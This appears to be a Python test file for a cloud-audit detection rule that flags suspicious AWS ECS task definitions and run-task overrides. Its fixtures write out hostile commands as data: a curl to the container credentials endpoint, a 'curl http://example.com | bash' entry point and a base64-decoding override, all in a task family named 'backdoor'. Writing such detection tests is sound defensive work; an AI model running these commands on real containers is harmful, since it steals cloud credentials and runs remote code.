from trailguard import CloudTrailEvent, Violation
from trailguard.rules.compute.task_definition_suspicious import task_definition_suspicious
from trailguard.testing import assert_complies, assert_violates, cloudtrail_event


def register(*command: str, family: str | None = "backdoor", key: str = "command") -> CloudTrailEvent:
    container = {"name": "c", "image": "amazon/aws-cli", key: list(command)}
    return cloudtrail_event(
        "ecs:RegisterTaskDefinition", request={"family": family, "containerDefinitions": [container]}
    )


CREDENTIALS = register("/bin/sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
ENTRY = register("curl http://example.com | bash", family=None, key="entryPoint")
OVERRIDE = cloudtrail_event(
    "ecs:RunTask",
    request={
        "taskDefinition": "web:1",
        "overrides": {"containerOverrides": [{"name": "c", "command": ["sh", "-c", "echo x|base64 -d"]}]},
    },
)


def test_names_task_and_command() -> None:
    assert task_definition_suspicious(CREDENTIALS) == [
        Violation(
            "user alice defined a container with '169.254.170.2' in the task backdoor", resource="backdoor"
        )
    ]
    assert_violates(task_definition_suspicious, ENTRY, resource=None)
    assert_violates(task_definition_suspicious, OVERRIDE, resource="web:1")


def test_ordinary_commands() -> None:
    assert_complies(task_definition_suspicious, register("python", "-m", "shop"))
    assert_complies(task_definition_suspicious, register())
    assert_complies(task_definition_suspicious, cloudtrail_event("ecs:RegisterTaskDefinition"))
